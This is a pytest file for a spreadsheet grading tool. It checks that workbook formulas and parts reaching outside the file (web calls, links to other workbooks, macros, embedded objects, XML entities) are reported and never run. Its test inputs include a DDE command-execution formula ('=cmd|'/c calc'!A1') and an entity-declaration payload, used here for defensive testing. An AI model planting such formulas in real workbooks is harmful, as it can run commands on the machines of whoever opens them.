"""What reaches out of a workbook is told, and nothing of it is evaluated."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from tests.classroom.lessons import (
    Lesson,
    areas_of,
    blank,
    edited,
    lesson,
    names_in,
    small_book,
    taken,
)
from xlconv.classroom.exercise_file import load_exercise
from xlconv.classroom.grading.answer_key import answer_key_of
from xlconv.classroom.grading.graded_file import GradedFile, State
from xlconv.classroom.grading.outside import people_of
from xlconv.classroom.grading.standard import GradingStandard, grading_standard
from xlconv.runs.check_file import check_file


@pytest.fixture(scope="module")
def one(tmp_path_factory: pytest.TempPathFactory) -> Lesson:
    book = small_book()
    return lesson(tmp_path_factory.mktemp("lesson"), book, blank(book, "relu1"))


@pytest.fixture(scope="module")
def standard(one: Lesson) -> GradingStandard:
    return grading_standard(answer_key_of(load_exercise(one.toml)), with_copies=True)


def with_part(path: Path, name: str, content: bytes = b"x") -> Path:
    with zipfile.ZipFile(path, "a") as parts:
        parts.writestr(name, content)
    return path


def graded(path: Path, standard: GradingStandard) -> GradedFile:
    found = check_file(path, standard)
    assert isinstance(found, GradedFile), found.error
    return found


@pytest.mark.slow
@pytest.mark.parametrize(
    ("formula", "told"),
    [
        ('=WEBSERVICE("http://example.org/"&L4)', "would reach outside, from network!L3"),
        ('=RTD("prog","",L4)', "would reach outside, from network!L3"),
        ("=[1]Sheet1!A1", "would read other workbooks, from network!L3"),
        ("='C:\\secret\\[other.xlsx]Sheet1'!A1", "would read other workbooks, from network!L3"),
        ("=cmd|'/c calc'!A1", "would reach outside, from network!L3"),
    ],
)
def test_formulas_that_reach_outside_are_told_and_not_right(
    one: Lesson, standard: GradingStandard, tmp_path: Path, formula: str, told: str
) -> None:
    found = graded(one.save(tmp_path / "a.xlsx", edited(one.solution, {"L3": formula})), standard)
    assert any(told in note for note in found.notes), found.notes
    assert found.marks[0].states[0] != State.RIGHT
    assert found.marks[0].count(State.RIGHT) == 31


@pytest.mark.slow
@pytest.mark.parametrize(
    ("part", "told"),
    [
        ("xl/vbaProject.bin", "macros; they were not run"),
        ("xl/externalLinks/externalLink1.xml", "links to other workbooks"),
        ("xl/connections.xml", "connections to data"),
        ("xl/embeddings/oleObject1.bin", "embedded objects"),
    ],
)
def test_parts_that_reach_outside_are_told(
    one: Lesson, standard: GradingStandard, tmp_path: Path, part: str, told: str
) -> None:
    path = one.save(tmp_path / "a.xlsx", edited(one.solution, {"L3": None}))
    found = graded(with_part(path, part), standard)
    assert any(told in note for note in found.notes)
    assert found.marks[0].count(State.RIGHT) == 31
    assert found.copy
    (tmp_path / "copy.xlsx").write_bytes(found.copy)
    with zipfile.ZipFile(tmp_path / "copy.xlsx") as parts:
        assert part not in parts.namelist()


@pytest.mark.slow
def test_a_right_file_has_nothing_to_tell(
    one: Lesson, standard: GradingStandard, tmp_path: Path
) -> None:
    found = graded(one.save(tmp_path / "a.xlsx", one.solution), standard)
    assert found.notes == ()
    assert found.problem == ""
    assert not found.copy  # nothing is to be marked in it


@pytest.mark.slow
def test_what_else_was_changed_is_told(
    one: Lesson, standard: GradingStandard, tmp_path: Path
) -> None:
    cells = names_in(*areas_of(small_book(), "pool1"))
    formulas = {name: str(text).replace("MAX", "MIN")
                for name, text in taken(one.solution, cells).items()}  # fmt: skip
    found = graded(one.save(tmp_path / "a.xlsx", edited(one.solution, formulas)), standard)
    assert found.marks[0].count(State.RIGHT) == 32  # a cell after a wrong one is right by itself
    (note,) = found.notes
    assert note.startswith("something else was changed that nobody asked for: network!Q3")


_CORE = (
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
    'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">{}</cp:coreProperties>'
)


@pytest.mark.parametrize(
    ("text", "people"),
    [
        (_CORE.format("<dc:creator>Ada</dc:creator><cp:lastModifiedBy>Bob</cp:lastModifiedBy>"),
         ("Ada", "Bob")),
        (_CORE.format(""), ("", "")),
        ("<!DOCTYPE a [<!ENTITY b 'c'>]>" + _CORE.format("<dc:creator>&b;</dc:creator>"), ("", "")),
        ("no XML", ("", "")),
    ],
)  # fmt: skip
def test_people_of_a_document(tmp_path: Path, text: str, people: tuple[str, str]) -> None:
    path = with_part(tmp_path / "a.xlsx", "docProps/core.xml", text.encode())
    assert people_of(path) == people
    (tmp_path / "b.xlsx").write_bytes(b"nothing")
    assert people_of(tmp_path / "b.xlsx") == ("", "")
